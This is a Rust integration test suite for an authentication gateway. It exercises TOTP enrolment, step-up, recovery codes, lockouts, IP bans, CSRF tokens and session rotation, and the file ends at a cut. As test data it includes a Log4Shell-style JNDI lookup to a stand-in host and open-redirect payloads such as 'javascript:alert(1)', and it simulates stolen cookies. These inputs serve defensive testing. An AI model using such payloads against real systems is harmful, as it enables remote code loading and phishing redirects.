//! Second factors over the real pages: added, asked for, used once, locked, and kept over a restart.

use std::collections::BTreeMap;
use std::io::Write as _;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener};

use aws_lc_rs::hmac;
use data_encoding::BASE32_NOPAD;
use portcullis_testkit::browser::in_browser;
use portcullis_testkit::ports::free_port;
use portcullis_testkit::upstream::Upstream;
use portcullis_testkit::wait::{self, PATIENCE};
use portcullis_testkit::wire::{self, Answer, Conn};
use serde_json::{Value, json};

use crate::harness::{Gateway, NO_BANS, Site, of_kind, portcullis};

const POLICY: &str = r#"
[[role]]
name = "everything"
permissions = [{ actions = ["* /**"], not_actions = ["* /secret/**"] }]

[[role]]
name = "secrets"
permissions = [{ actions = ["* /secret/**"] }]

[[assignment]]
name = "the-known-do-nearly-everything"
role = "everything"
principals = ["authenticated"]
scope = "*"

[[assignment]]
name = "secrets-need-a-second-factor"
role = "secrets"
principals = ["authenticated"]
scope = "*"
when = { assurance = "mfa" }
"#;

/// A gateway with Alice as a local user, on this host.
pub(crate) fn start(upstream: &Upstream, host: &str) -> Gateway {
    start_with(upstream, host, NO_BANS)
}

fn start_with(upstream: &Upstream, host: &str, bans: &str) -> Gateway {
    site(upstream, host, bans).start()
}

fn site(upstream: &Upstream, host: &str, bans: &str) -> Site {
    let address = SocketAddr::from((Ipv4Addr::LOCALHOST, free_port()));
    let mut site = Site::new(&upstream.url());
    site.listen_on(address);
    site.tell_identity();
    site.add("[[identity.password]]\nname = \"local\"\nfile = \"users.toml\"\n");
    site.add("[identity.login]\nallow_http = true\n");
    site.add("[store]\npath = \"my.db\"\n");
    let port = address.port();
    site.add(&format!(
        "[mfa]\nkey = {{ file = \"mfa.key\" }}\nissuer = \"Example\"\n[mfa.passkeys]\nrp_id = \"{host}\"\norigins = [\"http://{host}:{port}\"]\n"
    ));
    site.file("mfa.key", "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=\n");
    site.policy(&[POLICY, bans].concat());
    let file = site.path("users.toml");
    let added = portcullis().args(["user", "add", "alice", "--file"]).arg(file).stdin("correct horse\n").run(PATIENCE);
    assert!(added.status.success(), "{:?}", added.stderr);
    site
}

/// As much of a browser as the pages need: cookies, redirects, forms.
pub(crate) struct Browser {
    address: SocketAddr,
    /// By what name it comes to that address.
    host: String,
    from: IpAddr,
    cookies: BTreeMap<String, String>,
}

pub(crate) struct Shown {
    pub(crate) place: String,
    pub(crate) answer: Answer,
}

impl Shown {
    pub(crate) fn html(&self) -> &str {
        self.answer.text()
    }
}

pub(crate) fn between<'t>(text: &'t str, before: &str, behind: &str) -> Option<&'t str> {
    Some(text.split_once(before)?.1.split_once(behind)?.0)
}

/// What an attribute says, as the gateway's pages write it.
pub(crate) fn plain(text: &str) -> String {
    let plain = text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&#39;", "'");
    plain.replace("&amp;", "&")
}

fn encoded(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte);
    text.bytes().map(|byte| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") }).collect()
}

impl Browser {
    pub(crate) fn new(gateway: &Gateway) -> Self {
        Self::at(gateway, "127.0.0.1")
    }

    /// One on a machine of this address.
    fn at(gateway: &Gateway, from: &str) -> Self {
        let (address, from) = (gateway.address, from.parse().unwrap());
        Self { address, host: address.to_string(), from, cookies: BTreeMap::new() }
    }

    /// One that goes to the gateway by this name.
    fn of_host(gateway: &Gateway, host: &str) -> Self {
        Self { host: host.to_owned(), ..Self::new(gateway) }
    }

    /// Somebody else's, with the cookies of this one.
    pub(crate) fn stolen(&self) -> Self {
        Self { cookies: self.cookies.clone(), host: self.host.clone(), ..*self }
    }

    /// Whether it has a session.
    fn is_in(&self) -> bool {
        self.cookies.keys().any(|name| name.contains("session"))
    }

    pub(crate) fn once(&mut self, method: &str, place: &str, body: &str) -> Answer {
        let cookies: Vec<String> = self.cookies.iter().map(|(name, value)| format!("{name}={value}")).collect();
        let (host, cookies) = (self.host.clone(), cookies.join("; "));
        let mut headers = vec![("host", host.as_str()), ("accept", "text/html")];
        if !cookies.is_empty() {
            headers.push(("cookie", &cookies));
        }
        if method == "POST" {
            headers.push(("content-type", "application/x-www-form-urlencoded"));
        }
        let mut connection = Conn::open_from(self.from, self.address);
        connection.send(wire::request(method, place, &headers, body.as_bytes()));
        let answer = connection.answer();
        for line in answer.head.header_values("set-cookie") {
            let (name, value) = line.split(';').next().unwrap().split_once('=').unwrap();
            if value.is_empty() {
                self.cookies.remove(name);
            } else {
                self.cookies.insert(name.to_owned(), value.to_owned());
            }
        }
        answer
    }

    fn follow(&mut self, method: &str, place: &str, body: &str) -> Shown {
        let (mut method, mut place, mut body) = (method, place.to_owned(), body);
        for _ in 0..10 {
            let answer = self.once(method, &place, body);
            let Some(location) = answer.header("location").map(str::to_owned) else { return Shown { place, answer } };
            assert!(location.starts_with('/') && !location.starts_with("//"), "{location}");
            (method, place, body) = ("GET", location, "");
        }
        panic!("it leads on and on: {place}");
    }

    pub(crate) fn go(&mut self, place: &str) -> Shown {
        self.follow("GET", place, "")
    }

    /// Sends the form whose markup has this in it, with these fields beside its hidden ones.
    pub(crate) fn submit(&mut self, page: &Shown, form: &str, fields: &[(&str, &str)]) -> Shown {
        let html = page.html();
        let found =
            html.split("<form").find(|piece| piece.split("</form>").next().is_some_and(|piece| piece.contains(form)));
        let piece = found
            .and_then(|piece| piece.split("</form>").next())
            .unwrap_or_else(|| panic!("no form with {form}: {html}"));
        let action = between(piece, "action=\"", "\"").unwrap();
        let hidden = piece.split("<input").filter(|input| input.contains("type=\"hidden\"")).filter_map(|input| {
            Some((between(input, "name=\"", "\"")?.to_owned(), plain(between(input, "value=\"", "\"")?)))
        });
        let given = fields.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned()));
        let body: Vec<String> =
            hidden.chain(given).map(|(name, value)| format!("{name}={}", encoded(&value))).collect();
        self.follow("POST", action, &body.join("&"))
    }

    /// Logs in as Alice on the page that it was led to.
    pub(crate) fn log_in(&mut self, page: &Shown) -> Shown {
        self.type_in(page, "alice", "correct horse")
    }

    fn type_in(&mut self, page: &Shown, name: &str, password: &str) -> Shown {
        self.submit(page, "name=\"password\"", &[("name", name), ("password", password)])
    }
}

/// The code that an app with this secret shows so many steps from now.
pub(crate) fn code(secret: &str, steps: i64) -> String {
    let secret = BASE32_NOPAD.decode(secret.replace(' ', "").as_bytes()).unwrap();
    // One of the step before is good in this step alone, which is not to be over before the code is looked at.
    let now = || Some(jiff::Timestamp::now().as_second()).filter(|now| steps >= 0 || now % 30 < 15);
    let step = wait::until(PATIENCE, now).expect("half of a step") / 30 + steps;
    let mac = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA1_FOR_LEGACY_USE_ONLY, &secret), &step.to_be_bytes());
    let mac = mac.as_ref();
    let offset = usize::from(mac[19] & 0xf);
    let number = u32::from_be_bytes(mac[offset..offset + 4].try_into().unwrap()) & 0x7fff_ffff;
    format!("{:06}", number % 1_000_000)
}

/// Logs in for just that, as whoever has no factor yet does to add the first one.
pub(crate) fn begin_first(browser: &mut Browser) -> Shown {
    let page = browser.go("/.portcullis/factors");
    assert!(!page.html().contains("<form"), "{}", page.html());
    assert!(page.html().contains("Log in again to add one"), "{}", page.html());
    let login = plain(between(page.html(), "<a href=\"", "\"").unwrap());
    let page = browser.go(&login);
    let page = browser.log_in(&page);
    assert!(page.place.starts_with("/.portcullis/factors?proof="), "{}", page.place);
    page
}

/// Adds an app by the pages; its secret, and the recovery codes.
pub(crate) fn enrol(browser: &mut Browser) -> (String, Vec<String>) {
    let page = begin_first(browser);
    let page = browser.submit(&page, "begin-totp", &[("name", "phone")]);
    let secret = between(page.html(), "<code id=\"secret\">", "</code>").unwrap().to_owned();
    assert!(page.html().contains("data:image/svg+xml;base64,"), "{}", page.html());
    let page = browser.submit(&page, "confirm-totp", &[("code", &code(&secret, -1))]);
    let codes: Vec<String> =
        page.html().split("<li><code>").skip(1).map(|piece| piece.split('<').next().unwrap().to_owned()).collect();
    assert_eq!(codes.len(), 10, "{}", page.html());
    (secret, codes)
}

#[test]
fn a_session_is_raised_by_a_code_and_goes_back_to_where_it_was() {
    let upstream = Upstream::start();
    let gateway = start(&upstream, "localhost");
    let mut browser = Browser::new(&gateway);
    let page = browser.go("/secret/plans?year=2026");
    assert!(page.place.starts_with("/.portcullis/login"), "{}", page.place);
    let refused = browser.submit(&page, "name=\"password\"", &[("name", "alice"), ("password", "wrong horse")]);
    assert!(refused.answer.status() >= 400 && !browser.is_in(), "{}", refused.html());
    // Nobody is led to another host.
    let page = browser.log_in(&page);
    assert!(page.place.starts_with("/.portcullis/step-up?return="), "{}", page.place);
    assert!(page.html().contains("you have none yet"), "{}", page.html());
    let api = gateway.get("/secret/plans", &[("cookie", &cookies(&browser)), ("accept", "application/json")]);
    let event = gateway.check_refused("a program", &api, 401, "step_up.required");
    assert_eq!(event["identity"]["id"], "alice");
    assert!(api.header("www-authenticate").unwrap().contains("insufficient_user_authentication"));

    let (secret, recovery) = enrol(&mut browser);
    let before = browser.cookies.clone();
    let page = browser.go("/secret/plans?year=2026");
    assert!(page.place.starts_with("/.portcullis/step-up?return=/secret/plans"), "{}", page.place);
    let wrong = browser.submit(&page, "name=\"code\"", &[("code", "000000")]);
    assert_eq!(wrong.answer.status(), 403, "{}", wrong.html());
    let used = code(&secret, 0);
    let shown = browser.submit(&wrong, "name=\"code\"", &[("code", &used)]);
    assert_eq!((shown.place.as_str(), shown.answer.status()), ("/secret/plans?year=2026", 200));
    assert_ne!(browser.cookies, before, "the session has another id");
    let mut old = Browser { cookies: before, ..Browser::new(&gateway) };
    assert!(old.go("/secret/plans").place.starts_with("/.portcullis/login"), "the old id opens nothing");
    // A code is good once, also for another session of its owner.
    let mut other = Browser::new(&gateway);
    let page = other.go("/secret/plans");
    let page = other.log_in(&page);
    let page = other.submit(&page, "name=\"code\"", &[("code", &used)]);
    assert_eq!(page.answer.status(), 403);
    let page = other.submit(&page, "name=\"code\"", &[("code", &recovery[0].to_uppercase())]);
    assert_eq!((page.place.as_str(), page.answer.status()), ("/secret/plans", 200));

    let events = gateway.stop();
    for (kind, count) in [("auth.step_up", 2), ("auth.failed", 3), ("auth.factor_added", 1)] {
        assert_eq!(of_kind(&events, kind).len(), count, "{kind}");
    }
    let text: String = events.iter().map(Value::to_string).collect();
    for secret in [&secret.replace(' ', ""), &recovery[0], "correct horse"] {
        assert!(!text.contains(secret), "{secret} is in an event");
    }
    // Six digits stand in many a number: here they are looked for where words are.
    assert!(events.iter().all(|event| !event["message"].as_str().unwrap_or_default().contains(&used)));
}

/// What Alice may have for a time, by herself.
const ELIGIBLE: &str = r#"
[[assignment]]
name = "secrets-for-a-time"
role = "secrets"
principals = ["user:alice"]
scope = "*"
activation = { max = "1h", self = true }
"#;

const ACCESS: &str = "/.portcullis/access";
/// Where nothing but the gateway's own pages is.
const OWN: &str = "access.test";

fn with_access(upstream: &Upstream) -> Gateway {
    with_access_at(upstream, OWN)
}

fn with_access_at(upstream: &Upstream, own: &str) -> Gateway {
    let mut site = site(upstream, "localhost", NO_BANS);
    site.add(&format!("[access]\nself_service = true\nhosts = [\"{own}\"]\n"));
    site.policy(&[POLICY, ELIGIBLE, NO_BANS].concat());
    site.start()
}

/// Sends this as a script can, on the origin of the page that it is on.
fn by_script(gateway: &Gateway, browser: &Browser, method: &str, place: &str, body: &str) -> Answer {
    let (origin, cookies) = (format!("http://{}", browser.host), cookies(browser));
    let headers = [
        ("host", browser.host.as_str()),
        ("origin", &origin),
        ("sec-fetch-site", "same-origin"),
        ("cookie", &cookies),
        ("content-type", "application/json"),
        ("accept", "application/json"),
    ];
    gateway.send(wire::request(method, place, &headers, body.as_bytes()))
}

#[test]
fn no_script_of_an_application_activates_anything_whatever_its_visitor_has_shown() {
    let upstream = Upstream::start();
    let gateway = with_access(&upstream);
    let mut browser = Browser::new(&gateway);
    let page = browser.go("/secret/plans");
    browser.log_in(&page);
    let (secret, _) = enrol(&mut browser);
    let page = browser.go("/secret/plans");
    let page = browser.submit(&page, "name=\"code\"", &[("code", &code(&secret, 0))]);
    assert_eq!((page.place.as_str(), page.answer.status()), ("/secret/plans", 200));
    // A script waited for that: a second factor was shown a moment ago.
    let body = r#"{"assignment":"secrets-for-a-time","justification":"x"}"#;
    let refused = by_script(&gateway, &browser, "POST", "/.portcullis/activations", body);
    gateway.check_refused("a script activates", &refused, 401, "step_up.required");
    let whole = format!("http://{OWN}:{}{ACCESS}", gateway.address.port());
    assert!(refused.json()["detail"].as_str().unwrap().contains(&whole), "{}", refused.text());
    let refused = by_script(&gateway, &browser, "DELETE", "/.portcullis/activations/1", "");
    gateway.check_refused("a script gives up", &refused, 401, "step_up.required");
    let asking = r#"{"event":"0190b2a0-0000-7000-8000-000000000000","justification":"x"}"#;
    let refused = by_script(&gateway, &browser, "POST", "/.portcullis/access-requests", asking);
    gateway.check_refused("a script asks", &refused, 401, "step_up.required");
    // To look is to change nothing.
    let seen = by_script(&gateway, &browser, "GET", "/.portcullis/activations", "");
    assert_eq!(seen.json()["eligible"][0]["assignment"], "secrets-for-a-time", "{}", seen.text());
    // The page for persons is not on its origin, and what it sends to another one is sent back.
    assert_eq!(browser.go(ACCESS).answer.status(), 404);
    let mut elsewhere = Browser { host: OWN.to_owned(), cookies: browser.cookies.clone(), ..Browser::new(&gateway) };
    let headers = [
        ("host", OWN),
        ("origin", "http://app.test"),
        ("cookie", &cookies(&elsewhere)),
        ("accept", "application/json"),
    ];
    let sent = gateway.send(wire::request("POST", ACCESS, &headers, b"act=prepare"));
    gateway.check_refused("another origin", &sent, 403, "request.malformed");
    // Whoever has stolen the cookie of an application's host, raised as it is, and sends it there by hand has no session there.
    let page = elsewhere.go(ACCESS);
    assert!(page.place.starts_with("/.portcullis/login?to="), "{}: {}", page.place, page.html());
    assert!(of_kind(&gateway.events.all(), "grant.began").is_empty());
}

#[test]
fn a_person_activates_one_thing_with_one_factor_at_a_host_where_no_application_is() {
    let upstream = Upstream::start();
    let gateway = with_access(&upstream);
    let mut browser = Browser::of_host(&gateway, OWN);
    let page = browser.go(ACCESS);
    assert!(page.place.starts_with("/.portcullis/login?to=/.portcullis/access"), "{}", page.place);
    browser.log_in(&page);
    let (_, recovery) = enrol(&mut browser);
    // Whoever has stolen the cookie of a fresh login could have added it: in that session it counts for nothing.
    let fields = [("assignment", "secrets-for-a-time"), ("minutes", ""), ("justification", "x"), ("ticket", "")];
    let page = browser.go(ACCESS);
    assert_eq!(page.answer.header("clear-site-data"), Some("\"storage\""));
    let page = browser.submit(&page, "value=\"prepare\"", &fields);
    let html = page.html();
    assert!(html.contains("does not count here") && !html.contains("name=\"code\""), "{html}");
    assert!(html.contains("/.portcullis/login?prove=anew&amp;to="), "{html}");
    let page = browser.go(ACCESS);
    let token = encoded(between(page.html(), "name=\"token\" value=\"", "\"").unwrap());
    let body = format!(
        "token={token}&act=activate&assignment=secrets-for-a-time&minutes=&justification=x&ticket=&code={}",
        encoded(&recovery[1])
    );
    let refused = browser.once("POST", ACCESS, &body);
    assert_eq!(refused.status(), 403, "{}", refused.text());
    let event = gateway.events.wait_for_request(refused.header("x-request-id").unwrap());
    assert_eq!(event["reason"], "step_up.required", "{event:#}");
    assert!(of_kind(&gateway.events.all(), "grant.began").is_empty());
    browser.cookies.clear();
    let page = browser.go(ACCESS);
    browser.log_in(&page);
    let page = browser.go(ACCESS);
    assert_eq!((page.place.as_str(), page.answer.status()), (ACCESS, 200), "{}", page.html());
    assert!(page.html().contains("secrets-for-a-time: secrets, for at most 60 minutes"), "{}", page.html());
    assert!(!page.html().contains("<script"), "{}", page.html());
    let fields =
        [("assignment", "secrets-for-a-time"), ("minutes", "30"), ("justification", "INC-7 <b>"), ("ticket", "")];
    let prepared = browser.submit(&page, "value=\"prepare\"", &fields);
    let html = prepared.html();
    assert!(html.contains("<dt>minutes</dt><dd>30</dd>") && html.contains("<dd>INC-7 &lt;b&gt;</dd>"), "{html}");
    assert!(of_kind(&gateway.events.all(), "grant.began").is_empty(), "nothing of it is in force");
    // Who has the session alone, or guesses, activates nothing.
    let wrong = browser.submit(&prepared, "name=\"code\"", &[("code", "000000")]);
    assert_eq!(wrong.answer.status(), 403, "{}", wrong.html());
    assert!(wrong.html().contains("<dd>30</dd>"), "and it is asked for the same: {}", wrong.html());
    let before = browser.cookies.clone();
    let none = browser.submit(&prepared, "name=\"code\"", &[("no", "code")]);
    assert_eq!(none.answer.status(), 400, "{}", none.html());
    let begun = browser.submit(&wrong, "name=\"code\"", &[("code", &recovery[0])]);
    assert_eq!((begun.place.as_str(), begun.answer.status()), (ACCESS, 200), "{}", begun.html());
    assert!(begun.html().contains("secrets-for-a-time: in_force until"), "{}", begun.html());
    // The factor was for that alone: the session is what it was, and the code is used up.
    assert_eq!(browser.cookies, before);
    let used = browser.submit(&prepared, "name=\"code\"", &[("code", &recovery[0])]);
    assert_eq!(used.answer.status(), 403, "{}", used.html());
    let listed = gateway.site.run(&["access", "list", "-o", "json"]);
    let listed: Value = serde_json::from_str(&listed.stdout.join("\n")).unwrap();
    let own = &listed["access"][0];
    assert_eq!((&own["for_s"], &own["reason"], &own["by"]), (&json!(1_800), &json!("INC-7 <b>"), &json!("user:alice")));
    assert_eq!(listed["access"].as_array().unwrap().len(), 1);
    // It is given up without a factor.
    let page = browser.go(ACCESS);
    let ended = browser.submit(&page, "value=\"end\"", &[]);
    assert!(ended.html().contains("secrets-for-a-time: ended until"), "{}", ended.html());
    // Nothing else is on this host, whatever routes say, and no form is taken without its token.
    assert_eq!(browser.go("/any").answer.status(), 404);
    assert_eq!(
        browser
            .once("POST", ACCESS, "act=prepare&assignment=secrets-for-a-time&minutes=&justification=x&ticket=")
            .status(),
        403
    );
    let events = gateway.stop();
    for (kind, count) in [("grant.began", 1), ("grant.ended", 1), ("auth.step_up", 1), ("auth.failed", 2)] {
        assert_eq!(of_kind(&events, kind).len(), count, "{kind}");
    }
    let shown = of_kind(&events, "auth.step_up");
    assert!(shown[0]["message"].as_str().unwrap().contains("to activate secrets-for-a-time"), "{:#}", shown[0]);
    assert!(upstream.requests().is_empty(), "no application was ever asked");
}

#[test]
fn a_credential_that_nobody_looks_at_opens_no_page_under_a_ban() {
    let upstream = Upstream::start();
    let gateway = start_with(&upstream, "localhost", "");
    let mut browser = Browser::new(&gateway);
    let page = browser.go("/any");
    assert_eq!(browser.log_in(&page).answer.status(), 200);
    let cookie = "portcullis-session=x".to_owned();
    let junk = [("cookie", cookie.as_str()), ("accept", "application/json")];
    assert_eq!(gateway.get_from("127.0.0.91", "/.portcullis/login", &junk).status(), 200, "there is no ban yet");
    let exploit = "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fx%7D";
    assert_eq!(gateway.get_from("127.0.0.91", exploit, &[]).status(), 401);
    for headers in [&junk[..], &[("authorization", "Bearer x"), ("accept", "application/json")], &junk[1..]] {
        let answer = gateway.get_from("127.0.0.91", "/.portcullis/login", headers);
        gateway.check_refused("a page under a ban", &answer, 403, "ban.active");
    }
    assert_eq!(browser.go("/any").answer.status(), 200, "another address is not meant");
}

#[test]
fn whoever_was_revoked_changes_no_factors() {
    let upstream = Upstream::start();
    let gateway = start(&upstream, "localhost");
    let mut browser = Browser::new(&gateway);
    let page = browser.go("/any");
    browser.log_in(&page);
    let page = begin_first(&mut browser);
    let revoked = gateway.site.run(&["revoke", "principal", "user:alice", "--reason", "lost"]);
    assert_eq!(revoked.status.code(), Some(0), "{revoked:?}");
    let api = gateway.get("/any", &[("cookie", &cookies(&browser)), ("accept", "application/json")]);
    gateway.check_refused("what was opened before", &api, 401, "authn.revoked");
    let sent = browser.submit(&page, "begin-totp", &[("name", "phone")]);
    assert!(sent.place.starts_with("/.portcullis/login"), "{} {}", sent.place, sent.html());
    // A password says not when it was given: nor does a session that it opens count.
    let mut again = Browser::new(&gateway);
    let page = again.go("/.portcullis/login");
    again.log_in(&page);
    let api = gateway.get("/any", &[("cookie", &cookies(&again)), ("accept", "application/json")]);
    assert_eq!(api.status(), 401);
}

fn cookies(browser: &Browser) -> String {
    browser.cookies.iter().map(|(name, value)| format!("{name}={value}")).collect::<Vec<_>>().join("; ")
}

#[test]
fn what_others_send_and_what_is_not_fresh_changes_nothing() {
    let upstream = Upstream::start();
    let gateway = start(&upstream, "localhost");
    let mut browser = Browser::new(&gateway);
    let page = browser.go("/secret/plans");
    browser.log_in(&page);
    // Without the token of the page.
    let sent = browser.once("POST", "/.portcullis/factors", "act=begin-totp&name=x");
    assert_eq!(sent.status(), 403, "{}", sent.text());
    let sent = browser.once("POST", "/.portcullis/step-up", "code=000000&return=/");
    assert_eq!(sent.status(), 403, "{}", sent.text());
    let (_, recovery) = enrol(&mut browser);
    // Alice has a factor now: who only knows her password may not add or remove one.
    let mut thief = Browser::new(&gateway);
    let page = thief.go("/secret/plans");
    thief.log_in(&page);
    let page = thief.go("/.portcullis/factors");
    assert!(page.html().contains("Show a factor to change them") && !page.html().contains("<form"), "{}", page.html());
    // Nobody is led to another host.
    for place in ["https://evil.test/", "//evil.test", "/\\evil.test", "javascript:alert(1)"] {
        let page = thief.go(&format!("/.portcullis/step-up?return={}", encoded(place)));
        assert!(page.html().contains("name=\"return\" value=\"/\""), "{place}: {}", page.html());
    }
    // Whoever guesses waits, and so does the right code; that survives a restart.
    let page = thief.go("/.portcullis/step-up?return=/");
    for _ in 0..5 {
        assert_eq!(thief.submit(&page, "name=\"code\"", &[("code", "000000")]).answer.status(), 403);
    }
    for _ in 0..3 {
        let locked = thief.submit(&page, "name=\"code\"", &[("code", &recovery[1])]);
        assert_eq!(locked.answer.status(), 429, "{}", locked.html());
        assert!(locked.answer.header("retry-after").is_some());
    }
    let listed = gateway.site.run(&["factor", "list", "alice", "-o", "json"]);
    let listed: Value = serde_json::from_str(&listed.stdout.join("\n")).unwrap();
    assert_eq!(listed["factors"][1]["left"], json!(10));
    let reset = gateway.site.run(&["totp", "reset", "alice"]);
    assert!(reset.stdout.concat().contains("2 were removed"), "{reset:?}");
    let none = gateway.site.run(&["factor", "list", "alice"]);
    assert_eq!(none.status.code(), Some(1), "{none:?}");
    let events = gateway.stop();
    // That it is locked is said once, by the attempt that locked it; each attempt is an event.
    let locked = of_kind(&events, "auth.locked");
    assert_eq!((locked.len(), of_kind(&events, "auth.failed").len()), (1, 4 + 3));
    assert!(locked[0]["message"].as_str().unwrap().contains("the last of too many"), "{:#}", locked[0]);
    assert_eq!(of_kind(&events, "admin.factor_reset").len(), 1);
}

/// Five at once, and nothing is forgotten while the test runs.
const CREDENTIAL_BANS: &str = "\n[ban]\nfirst = \"1h\"\ncredentials = { level = 5, half = \"1h\" }\n";

#[test]
fn failures_at_the_form_count_towards_a_ban_as_those_of_requests_do() {
    let upstream = Upstream::start();
    let gateway = start_with(&upstream, "localhost", CREDENTIAL_BANS);
    // From where nobody was ever let in, the whole address is banned, its pages too.
    let mut guesser = Browser::at(&gateway, "127.0.0.92");
    let mut tried = 0;
    let banned = loop {
        let page = guesser.go("/.portcullis/login");
        if page.answer.status() == 403 || tried > 10 {
            break page;
        }
        tried += 1;
        guesser.type_in(&page, &format!("user-{tried}"), "wrong horse");
    };
    assert!((5..=6).contains(&tried), "{tried} were looked at");
    let event = gateway.events.wait_for_request(banned.answer.header("x-request-id").unwrap());
    assert_eq!(event["reason"], "ban.active", "{event:#}");
    let created =
        wait::until(PATIENCE, || of_kind(&gateway.events.all(), "ban.created").first().map(|one| (*one).clone()));
    let created = created.expect("the ban is an event");
    assert_eq!(created["client"]["ip"], "127.0.0.92", "{created:#}");
    assert_eq!(event["ban"]["active"], true, "{event:#}");
    assert!(!created.to_string().contains("wrong horse"), "{created:#}");
    // Behind a shared address there are people who have logged in: none of them is hit, and whoever has not yet can.
    let mut alice = Browser::at(&gateway, "127.0.0.93");
    let page = alice.go("/any");
    assert_eq!(alice.log_in(&page).answer.status(), 200);
    let mut guesser = Browser::at(&gateway, "127.0.0.93");
    for number in 0..7 {
        let page = guesser.go("/.portcullis/login");
        assert_eq!(page.answer.status(), 200, "{number}: {}", page.html());
        guesser.type_in(&page, &format!("other-{number}"), "wrong horse");
    }
    let second = || (of_kind(&gateway.events.all(), "ban.created").len() == 2).then_some(());
    wait::until(PATIENCE, second).expect("the address is banned");
    assert_eq!(alice.go("/any").answer.status(), 200);
    let mut late = Browser::at(&gateway, "127.0.0.93");
    let page = late.go("/.portcullis/login?to=/any");
    assert_eq!(late.log_in(&page).answer.status(), 200);
    let outside = gateway.get_from("127.0.0.93", "/any", &[("accept", "application/json")]);
    gateway.check_refused("without a session", &outside, 403, "ban.active");
}

#[test]
fn wrong_codes_count_for_the_address_and_not_for_whoever_they_are_tried_for() {
    let upstream = Upstream::start();
    let gateway = start_with(&upstream, "localhost", CREDENTIAL_BANS);
    let mut alice = Browser::new(&gateway);
    let page = alice.go("/any");
    alice.log_in(&page);
    let (secret, _) = enrol(&mut alice);
    // Somebody has her password, and guesses at the second factor from where nobody else is.
    let mut thief = Browser::at(&gateway, "127.0.0.94");
    let page = thief.go("/.portcullis/login?to=/.portcullis/step-up");
    let page = thief.log_in(&page);
    for _ in 0..6 {
        thief.submit(&page, "name=\"code\"", &[("code", "000000")]);
    }
    let created =
        wait::until(PATIENCE, || of_kind(&gateway.events.all(), "ban.created").first().map(|one| (*one).clone()));
    let created = created.expect("the ban is an event");
    assert_eq!(created["client"]["ip"], "127.0.0.94", "{created:#}");
    assert!(gateway.site.run(&["ban", "explain", "--user", "alice"]).status.code() == Some(1), "she is not banned");
    // She waits as anybody does whose codes were wrong; her session goes on.
    assert_eq!(alice.go("/any").answer.status(), 200);
    let reset = gateway.site.run(&["totp", "reset", "alice"]);
    assert_eq!(reset.status.code(), Some(0), "{reset:?}");
    assert!(!secret.is_empty());
}

#[test]
fn nobody_is_logged_in_by_the_form_of_another_browser() {
    let upstream = Upstream::start();
    let gateway = start(&upstream, "localhost");
    let fields = "name=alice&password=correct+horse&to=/";
    let mut victim = Browser::new(&gateway);
    // Without a page of its own, and with the token of another browser's.
    let sent = victim.once("POST", "/.portcullis/login", fields);
    assert_eq!((sent.status(), victim.is_in()), (403, false), "{}", sent.text());
    let mut other = Browser::new(&gateway);
    let page = other.go("/.portcullis/login");
    let token = between(page.html(), "name=\"token\" value=\"", "\"").unwrap().to_owned();
    let with_token = format!("{fields}&token={token}");
    let sent = victim.once("POST", "/.portcullis/login", &with_token);
    assert_eq!((sent.status(), victim.is_in()), (403, false));
    victim.go("/.portcullis/login");
    let sent = victim.once("POST", "/.portcullis/login", &with_token);
    let event = gateway.events.wait_for_request(sent.header("x-request-id").unwrap());
    assert_eq!((sent.status(), &event["reason"]), (403, &"request.malformed".into()));
    assert!(!event.to_string().contains("correct horse"), "{event:#}");
    // Its own is good, and is over with the login.
    let sent = other.once("POST", "/.portcullis/login", &with_token);
    assert_eq!((sent.status(), other.is_in()), (302, true));
    assert!(other.cookies.keys().all(|name| !name.contains("form")), "{:?}", other.cookies);
    let sent = other.once("POST", "/.portcullis/login", &with_token);
    assert_eq!(sent.status(), 403);
    // Where browsers have a login, none is asked for a password by itself.
    let asked = |headers: &[(&str, &str)]| {
        let refused = gateway.get("/any", headers);
        refused.head.header_values("www-authenticate").iter().any(|line| line.contains("Basic"))
    };
    assert!(!asked(&[("sec-fetch-mode", "cors")]), "a script in a page");
    assert!(asked(&[]), "a program");
}

#[test]
fn what_is_open_outlives_a_step_up_and_not_its_session() {
    let peer = TcpListener::bind("127.0.0.1:0").unwrap();
    let upstream = Upstream::start();
    let mut site = site(&upstream, "localhost", NO_BANS);
    site.add("[limits]\nrecheck = \"1s\"\n");
    site.add(&format!("[[upstream]]\nname = \"peer\"\nendpoints = [\"http://{}\"]\n", peer.local_addr().unwrap()));
    site.add("[[route]]\nname = \"socket\"\nupstream = \"peer\"\npaths = [\"/socket\"]\nupgrades = [\"websocket\"]\n");
    let gateway = site.start();
    let mut alice = Browser::new(&gateway);
    let page = alice.go("/any");
    alice.log_in(&page);
    let (secret, _) = enrol(&mut alice);
    let mut tunnel = gateway.conn();
    let cookie = cookies(&alice);
    let headers = [
        ("connection", "upgrade"),
        ("upgrade", "websocket"),
        ("sec-websocket-version", "13"),
        ("sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ=="),
        ("cookie", cookie.as_str()),
    ];
    tunnel.send(wire::request("GET", "/socket", &headers, b""));
    let (mut behind, _) = peer.accept().unwrap();
    let switched = "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
                    Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n";
    behind.write_all(switched.as_bytes()).unwrap();
    assert_eq!(tunnel.try_head().unwrap().status, 101);
    let page = alice.go("/secret/plans");
    let shown = alice.submit(&page, "name=\"code\"", &[("code", &code(&secret, 0))]);
    assert_eq!((shown.place.as_str(), shown.answer.status()), ("/secret/plans", 200));
    assert_ne!(cookies(&alice), cookie);
    // Had it gone by the old id, it would have ended, or would end now, as that of a session that is over.
    let revoked = gateway.site.run(&["session", "revoke", "--user", "alice"]);
    assert!(revoked.stdout.concat().contains("1 session of user:alice ended"), "{revoked:?}");
    assert!(tunnel.closed_within(PATIENCE));
    let ended = wait::until(PATIENCE, || {
        gateway.events.all().into_iter().find(|event| event["reason"] == "session.terminated")
    });
    let ended = ended.expect("the end is an event");
    assert_eq!(ended["reasons"][1], "authn.revoked", "{ended:#}");
}

#[test]
fn a_reload_whose_keys_open_no_factor_is_refused_and_an_exchange_is_not() {
